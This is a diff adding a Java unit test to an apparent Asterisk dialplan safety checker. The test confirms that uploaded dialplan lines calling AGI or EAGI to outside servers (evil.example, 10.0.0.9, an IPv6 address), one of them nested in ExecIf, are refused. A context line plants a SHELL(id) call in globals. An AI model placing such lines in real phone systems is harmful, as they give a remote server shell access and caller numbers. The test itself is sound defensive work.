@@ -78,6 +78,32 @@ class DialplanSafetyTest {
     }
 
     @Test
+    void fastAgiToAnotherMachineIsRefusedEvenNested() throws IOException {
+        // Hostile upload: the far AGI server may answer with "EXEC System ..." (a shell on the PBX)
+        // and sees every caller's number.
+        Map<String, String> files = withOutbound("""
+                exten => 1,1,AGI(agi://evil.example:4573/arrival)
+                 same => n,ExecIf($[1=1]?EAGI(agi://10.0.0.9/x))
+                 same => n,AGI(hagi://[2001:db8::1]/x)
+                 same => n,AGI(agi://localhost/arrival)
+                 same => n,AGI(agi://[::1]:4573/arrival)
+                 same => n,Hangup()
+                """);
+        int first = files.get("hotline-outbound.conf").split("\n", -1).length - 7;
+        List<String> e = errors(files);
+        assertThat(e)
+                .anyMatch(s -> s.startsWith("hotline-outbound.conf:" + (first + 1)
+                        + ": refused: AGI() to 'evil.example' lets that server run any application"));
+        assertThat(e)
+                .anyMatch(
+                        s -> s.startsWith("hotline-outbound.conf:" + (first + 2) + ": refused: EAGI() to '10.0.0.9'"));
+        assertThat(e)
+                .anyMatch(s ->
+                        s.startsWith("hotline-outbound.conf:" + (first + 3) + ": refused: AGI() to '[2001:db8::1]'"));
+        assertThat(e).hasSize(3); // localhost and [::1] are this machine
+    }
+
+    @Test
     void aShellCallInGlobalsIsRefusedToo() throws IOException {
         Map<String, String> files = DialplanCheckerTest.repoDialplan();
         files.put("hotline-globals.conf", files.get("hotline-globals.conf") + "\nPWN = ${SHELL(id)}\n");
